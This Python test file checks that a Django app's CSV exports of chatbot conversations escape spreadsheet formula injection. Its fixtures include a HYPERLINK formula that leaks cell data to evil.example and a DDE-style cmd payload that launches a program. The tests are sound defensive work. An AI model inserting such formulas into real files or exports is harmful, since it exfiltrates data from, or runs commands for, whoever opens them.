"""CSV exports open in a spreadsheet as the text they hold: no stored cell becomes a live formula.

Read back as a spreadsheet reads a CSV file, a cell that starts with = + - @,
a tab or a line break is a formula, unless it is a plain number. By default
such cells get a leading ' (the spreadsheet's "this is text" mark);
`?csv_formulas=raw` and `--csv-formulas raw` give them back as stored.
"""

import csv
import io
import json
import math
import re
import sqlite3

import pytest
from django.core.management import call_command

from stores import load_tracker_store
from tests.api.conftest import token_client, user_with_role

pytestmark = pytest.mark.django_db

LEAK = '=HYPERLINK("http://evil.example/?leak="&B3,"x")'
SENDER = "@SUM(1+1)*cmd|' /C calc'!A0"

# Through the store interface, as a bot's channel and its NLU would store them.
APPENDED = [
    {"event": "user", "timestamp": -1.5, "text": LEAK,
     "parse_data": {"intent": {"name": "+intent", "confidence": -0.25}}},
    {"event": "action", "timestamp": 2.0, "name": "-2+3"},
    {"event": "=unknown_type", "timestamp": 3.0},
    {"event": "bot", "timestamp": 4.0, "text": "\t=1+1"},
    {"event": "bot", "timestamp": 5.0, "text": "\r\n=1+1"},
    {"event": "bot", "timestamp": 6.0, "text": "a normal answer, = + - @ inside"},
]
# Written into Rasa's table by another program, as trackerweb would refuse them.
WRITTEN_BY_A_BOT = [
    {"event": "bot", "timestamp": "=1+1", "text": "a timestamp that is text"},
    {"event": "bot", "timestamp": -math.inf, "text": "Rasa writes -Infinity as it is"},
]
STORED = APPENDED + WRITTEN_BY_A_BOT

# What the cells of each event hold, as stored: type, timestamp, intent, confidence, action, text.
STORED_CELLS = [
    ("user", -1.5, "+intent", -0.25, None, LEAK),
    ("action", 2.0, None, None, "-2+3", None),
    ("=unknown_type", 3.0, None, None, None, None),
    ("bot", 4.0, None, None, None, "\t=1+1"),
    ("bot", 5.0, None, None, None, "\r\n=1+1"),
    ("bot", 6.0, None, None, None, "a normal answer, = + - @ inside"),
    ("bot", "=1+1", None, None, None, "a timestamp that is text"),
    ("bot", -math.inf, None, None, None, "Rasa writes -Infinity as it is"),
]

PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")


def starts_a_formula(cell):
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n", "\0") and not PLAIN_NUMBER.fullmatch(cell)


def spreadsheet_rows(text):
    """The rows of a CSV file as a spreadsheet sees them (the first is the header), each a dict by column."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_text(value):
    """A stored value as the cell of a raw export holds it."""
    if value is None:
        return ""
    return value if isinstance(value, str) else repr(value)


@pytest.fixture
def hostile_store(tmp_path, endpoints_file, db_access):
    """An SQLite store, the active one, holding hostile cells: some appended, some written by a bot directly."""
    path = tmp_path / "rasa.db"
    endpoints_file(f"tracker_store:\n  type: SQL\n  dialect: sqlite\n  db: {path}\n")
    store = load_tracker_store()
    store.append(SENDER, APPENDED)
    with sqlite3.connect(path) as bot:
        bot.executemany(
            "INSERT INTO events (sender_id, type_name, timestamp, data) VALUES (?, ?, ?, ?)",
            [(SENDER, event["event"], 7.0 + n, json.dumps(event)) for n, event in enumerate(WRITTEN_BY_A_BOT)])
    bot.close()
    return store


@pytest.fixture
def viewer_api(db):
    return token_client(user_with_role("csv-viewer", "viewer"))


def api_export(client, **params):
    response = client.get("/api/v1/events/", {"format": "csv", **params})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def command_export(tmp_path, *options):
    path = tmp_path / "events.csv"
    call_command("export_conversations", str(path), *options, stderr=io.StringIO())
    with open(path, encoding="utf-8", newline="") as exported:  # line breaks inside cells as written
        return exported.read()


def assert_no_formula_and_the_stored_text_behind_each_quote(rows):
    assert len(rows) == len(STORED)
    for row, cells in zip(rows, STORED_CELLS):
        assert [cell for cell in row.values() if starts_a_formula(cell)] == []
        for column, stored in zip(["type", "timestamp", "intent", "confidence", "action", "text"], cells):
            shown = as_text(stored)
            # The quote is added exactly where the stored text would start a formula, and only there.
            assert row[column] == ("'" + shown if starts_a_formula(shown) else shown), column
        assert row["sender_id"] == "'" + SENDER
        assert row["data"].startswith("{")


def assert_cells_as_stored(rows):
    assert [(row["sender_id"], row["type"], row["timestamp"], row["intent"], row["confidence"], row["action"],
             row["text"]) for row in rows] == \
        [(SENDER, *(as_text(cell) for cell in (kind, timestamp, intent, confidence, action, text)))
         for kind, timestamp, intent, confidence, action, text in STORED_CELLS]


def test_the_api_export_has_no_formula_cell(viewer_api, hostile_store):
    assert_no_formula_and_the_stored_text_behind_each_quote(spreadsheet_rows(api_export(viewer_api)))


def test_the_export_command_writes_no_formula_cell(hostile_store, tmp_path):
    assert_no_formula_and_the_stored_text_behind_each_quote(spreadsheet_rows(command_export(tmp_path)))


def test_the_api_gives_raw_cells_when_asked(viewer_api, hostile_store):
    assert_cells_as_stored(spreadsheet_rows(api_export(viewer_api, csv_formulas="raw")))
    assert spreadsheet_rows(api_export(viewer_api, csv_formulas="escape")) == spreadsheet_rows(api_export(viewer_api))


def test_the_export_command_gives_raw_cells_when_asked(hostile_store, tmp_path):
    assert_cells_as_stored(spreadsheet_rows(command_export(tmp_path, "--csv-formulas", "raw")))


def test_negative_numbers_stay_numbers(viewer_api, hostile_store):
    [first, *_] = spreadsheet_rows(api_export(viewer_api))
    assert (first["timestamp"], first["confidence"]) == ("-1.5", "-0.25")


def test_an_unknown_csv_formulas_value_is_a_400_naming_it(viewer_api, hostile_store):
    response = viewer_api.get("/api/v1/events/", {"format": "json", "csv_formulas": "maybe"})
    assert response.status_code == 400
    assert response.json()["field"] == "csv_formulas" and "escape or raw" in response.json()["detail"]


def test_json_and_ndjson_exports_keep_the_text_as_stored(viewer_api, hostile_store):
    # Not spreadsheets' formats: their readers get the data itself.
    exported = json.loads(b"".join(viewer_api.get("/api/v1/events/", {"format": "json"}).streaming_content))
    assert (exported[0]["sender_id"], exported[0]["event"]["text"]) == (SENDER, LEAK)
    ndjson = b"".join(viewer_api.get("/api/v1/events/", {"format": "ndjson"}).streaming_content).decode()
    assert json.loads(ndjson.splitlines()[0])["text"] == LEAK
